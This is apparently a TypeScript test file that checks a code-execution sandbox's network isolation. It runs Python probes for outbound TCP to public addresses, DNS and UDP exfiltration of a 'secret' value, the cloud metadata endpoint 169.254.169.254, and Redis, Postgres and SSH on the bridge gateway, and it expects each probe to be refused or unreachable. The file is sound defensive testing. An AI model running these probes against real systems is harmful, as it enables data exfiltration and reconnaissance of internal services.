import { networkInterfaces } from 'node:os'
import { type AttackLine, py, refused, solving, stopped } from './attack-suite.ts'

/** Every address of this host: the bridge's gateway is among them. */
const ours = Object.values(networkInterfaces()).flatMap((all) => (all ?? []).map(({ address }) => address))
const outside = ours.filter(
  (address) => !address.startsWith('127.') && address !== '::1' && !address.startsWith('fe80'),
)

const connecting = (targets: readonly (readonly [string, number])[]) =>
  solving(py`
    import socket
    refusals = []
    for host, port in ${JSON.stringify(targets)}:
        try:
            line = socket.create_connection((host, port), timeout=1)
            print("GOT THROUGH", host, port)
        except OSError as error:
            refusals.append(type(error).__name__ + " " + str(error.strerror or error))
    raise RuntimeError("no way out: " + str(sorted(set(refusals))))`)

const unreachable = stopped(
  /no way out: \['OSError (Network is unreachable|No route to host|Network unreachable)'\]/,
)
const needs = { seconds: 5 }

/** Network. */
export const network: readonly AttackLine[] = [
  {
    name: 'Outbound TCP',
    source: connecting([
      ['1.1.1.1', 80],
      ['8.8.8.8', 443],
      ['10.0.0.1', 22],
    ]),
    needs,
    policy: refused(/import socket/),
    raw: unreachable,
  },
  {
    name: 'DNS exfiltration',
    source: solving(py`
      import socket
      refusals = []
      try:
          print("GOT THROUGH", socket.getaddrinfo("secret.example.com", 80))
      except OSError as error:
          refusals.append(str(error))
      line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
      try:
          line.sendto(b"secret", ("1.1.1.1", 53))
          print("GOT THROUGH")
      except OSError as error:
          refusals.append(str(error))
      raise RuntimeError(str(refusals))`),
    needs,
    policy: refused(/import socket/),
    raw: stopped(/name resolution|not known[\s\S]*unreachable/),
  },
  {
    name: 'Cloud metadata 169.254.169.254',
    source: connecting([['169.254.169.254', 80]]),
    needs,
    policy: refused(/import socket/),
    raw: unreachable,
  },
  {
    name: 'Redis/Postgres of the bot on the bridge gateway',
    source: connecting(
      [...new Set(['172.17.0.1', ...outside.filter((address) => !address.includes(':'))])].flatMap((host) => [
        [host, 6379] as const,
        [host, 5432] as const,
        [host, 22] as const,
      ]),
    ),
    needs,
    policy: refused(/import socket/),
    raw: unreachable,
  },
  {
    name: 'There is no interface but the loopback',
    source: solving(
      'import socket\nprint("interfaces", [name for _, name in socket.if_nameindex()])\nreturn 1',
    ),
    raw: stopped(
      /interfaces \['lo'(, '(tunl|gre|sit|ip6|erspan|teql|ip_vti|gretap)\w*')*\]|Operation not permitted|not supported/,
      'wrong-answer',
      'runtime-error',
    ),
  },
  {
    name: 'Loopback server inside the sandbox (should work or fail cleanly, never leak)',
    source: solving(py`
      import socket, threading
      door = socket.create_server(("127.0.0.1", 0))
      def serve():
          guest, _ = door.accept()
          guest.sendall(b"hello")
          guest.close()
      threading.Thread(target=serve, daemon=True).start()
      with socket.create_connection(door.getsockname(), timeout=2) as line: print("heard", line.recv(5))
      for port in (6379, 5432, 80, 22, 2375):
          try:
              socket.create_connection(("127.0.0.1", port), timeout=1)
              print("GOT THROUGH", port)
          except OSError: continue
      return 1`),
    needs,
    policy: refused(/import socket/),
    raw: stopped(/heard b'hello'/, 'wrong-answer'),
  },
]
